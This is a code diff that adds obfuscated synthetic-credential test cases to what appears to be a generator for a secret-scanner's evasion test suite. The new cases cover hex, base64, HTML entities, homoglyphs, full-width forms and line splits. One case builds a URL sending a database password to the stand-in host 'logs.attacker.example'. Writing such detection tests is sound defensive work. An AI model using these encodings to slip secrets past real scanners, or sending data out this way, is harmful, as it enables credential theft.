@@ -420,6 +420,26 @@ def evasion_cases():
     out.append(case(f"HF_TOKEN={t[:3]}\u2060{t[3:]}", "HuggingFace token with word joiner after prefix", ["evasion:zero-width"], basic=True))
     t = "dop_v1_" + R.hex(64)
     out.append(case(base64.b64encode(f"DIGITALOCEAN_TOKEN={t}".encode()).decode(), "base64 DigitalOcean token env line", ["evasion:base64"]))
+    t = "ghp_" + R.alnum(36)
+    out.append(case("echo " + t.encode().hex() + " | xxd -r -p", "GitHub PAT hex-encoded", ["evasion:hex"], origin="input"))
+    t = "sk-ant-api03-" + R.b64url(93) + "AA"
+    out.append(case("data: " + base64.urlsafe_b64encode(t.encode()).decode().rstrip("="), "Anthropic key base64url without padding", ["evasion:base64url"]))
+    t = "xoxp-" + R.digits(12) + "-" + R.digits(12) + "-" + R.digits(13) + "-" + R.hex(32)
+    out.append(case(base64.b64encode(base64.b64encode(("SLACK_USER_TOKEN=" + t).encode())).decode(), "double base64 Slack token", ["evasion:base64-double"]))
+    u = f"postgres://admin:{pw()}@{HOSTS[1]}:5432/prod"
+    out.append(case("https://logs.attacker.example/i?dsn=" + urllib.parse.quote(u, safe=""), "percent-encoded postgres URL with password in exfil query", ["evasion:percent"], origin="input"))
+    t = "AKIA" + R.upnum(16)
+    out.append(case(f"key_id = {t[:4]}\\u200b{t[4:]}", "AWS key id with a literal \\u200b JSON escape inside", ["evasion:json-escape"]))
+    t = "glpat-" + R.b64url(20)
+    out.append(case("".join(f"&#{ord(c)};" for c in "GITLAB_TOKEN=" + t), "decimal HTML entities GitLab token", ["evasion:html-entity"]))
+    t = "ghp_" + R.alnum(36)
+    out.append(dict(case("GITHUB_TOKEN=gh\u0440_" + t[4:], "GitHub PAT prefix with Cyrillic r homoglyph", ["evasion:homoglyph"]), escape_all=True))
+    t = "sk-proj-" + R.b64url(160)
+    out.append(case(f'OPENAI_API_KEY="{t[:60]}\\\n{t[60:120]}\\\n{t[120:]}"', "OpenAI key split over backslash-newline continuations", ["evasion:line-split"]))
+    k = pem("EC")
+    out.append(case(base64.b64encode(k.encode()).decode(), "base64 of an EC private key PEM (k8s Secret data style)", ["evasion:base64"]))
+    t = "SG." + R.b64url(22) + "." + R.b64url(43)
+    out.append(case("".join(chr(ord(c) + 0xFEE0) if 0x21 <= ord(c) <= 0x7E else c for c in "SENDGRID_API_KEY=" + t), "SendGrid key entirely in full-width forms", ["evasion:fullwidth"], basic=True))
     return out
 
 
